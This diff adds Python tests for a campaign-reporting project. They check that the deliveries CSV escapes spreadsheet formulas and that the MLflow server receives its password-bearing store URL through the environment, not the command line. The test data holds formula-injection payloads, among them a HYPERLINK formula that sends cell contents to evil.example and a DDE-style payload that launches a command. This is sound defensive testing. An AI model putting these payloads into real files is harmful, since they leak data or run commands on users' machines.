@@ -1,0 +1,85 @@
+"""What we write from hostile data: the deliveries CSV must not run in a spreadsheet, and
+the database password must not be in any process's argv."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+
+from voicemill.campaign.records import CampaignRecord, DeliveryRecord
+from voicemill.campaign.report import spreadsheet_safe, write_report
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+]
+
+
+def _campaign() -> CampaignRecord:
+    return CampaignRecord(
+        campaign_id="camp-1",
+        spec={"campaign_id": "camp-1"},
+        spec_sha256="f" * 64,
+        recipients_uri="file:///data/recipients.csv",
+        recipients_sha256="e" * 64,
+        voice_profile="alice",
+        use_case="ads",
+    )
+
+
+def test_the_deliveries_csv_neutralizes_formulas(tmp_path: Path) -> None:
+    rows = [
+        DeliveryRecord(
+            trace_id=f"{n:032x}",
+            campaign_id="camp-1",
+            recipient_id=formula,
+            row_number=n + 1,
+            template_id=formula,
+            status="rejected",
+            error_reason="unknown_template",
+            error_detail=formula,
+        )
+        for n, formula in enumerate(FORMULAS)
+    ]
+    files = write_report(tmp_path, _campaign(), rows)
+    with files.csv.open(newline="", encoding="utf-8") as handle:
+        table = list(csv.DictReader(handle))
+    for row, formula in zip(table, FORMULAS, strict=True):
+        for column in ("recipient_id", "template_id", "error_detail"):
+            assert row[column] == "'" + formula, (column, row[column])
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
+    # The Parquet table keeps the data as it was: it is read by programs, not spreadsheets.
+    parquet = pd.read_parquet(files.parquet)
+    assert sorted(parquet["recipient_id"]) == sorted(FORMULAS)
+
+
+def test_spreadsheet_safe_leaves_ordinary_cells_and_numbers() -> None:
+    assert spreadsheet_safe("Ann") == "Ann"
+    assert spreadsheet_safe("r-001") == "r-001"
+    assert spreadsheet_safe(-3.5) == -3.5
+    assert spreadsheet_safe(None) is None
+
+
+def test_the_mlflow_server_gets_its_store_url_by_environment(platform_home: Path) -> None:
+    """``ps`` shows every account a process's argv; the store URL carries the password."""
+    from mlflow.cli import server
+
+    from voicemill.settings import get_settings
+    from voicemill.tracking import store
+    from voicemill.tracking.server import server_command, server_environment
+
+    settings = get_settings()
+    url = store.tracking_uri(settings)
+    argv = server_command(settings=settings)
+    assert all(url not in part for part in argv)
+    assert "--backend-store-uri" not in argv
+    assert server_environment(settings)["MLFLOW_BACKEND_STORE_URI"] == url
+    # ... which is where mlflow's own CLI reads --backend-store-uri from.
+    (option,) = [p for p in server.params if p.name == "backend_store_uri"]
+    assert option.envvar == "MLFLOW_BACKEND_STORE_URI"
